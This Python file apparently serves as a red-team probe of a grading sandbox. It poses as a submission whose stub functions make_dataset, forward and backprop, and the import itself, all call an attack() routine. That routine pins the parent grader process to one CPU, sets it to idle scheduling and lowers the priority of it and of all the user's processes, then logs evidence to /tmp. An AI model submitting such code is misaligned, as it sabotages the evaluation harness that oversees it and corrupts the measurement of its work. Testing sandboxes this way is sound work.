"""Slows the grader: one processor, idle scheduling, the lowest priority for it and its memory."""
import os


def evidence(what):
    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
    print("EVIDENCE affinity-grader:", str(what)[:300], flush=True)
    try:
        with open("/tmp/attack-evidence-affinity-grader", "a") as trace:
            trace.write(str(what)[:300] + "\n")
    except OSError:
        pass

def attack():
    parent = os.getppid()
    for name, act in (
        ("affinity", lambda: os.sched_setaffinity(parent, {0})),
        ("scheduler", lambda: os.sched_setscheduler(parent, os.SCHED_IDLE, os.sched_param(0))),
        ("priority", lambda: os.setpriority(os.PRIO_PROCESS, parent, 19)),
        ("priority of the user", lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19)),
    ):
        try:
            act()
        except OSError:
            continue
        evidence(name)


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
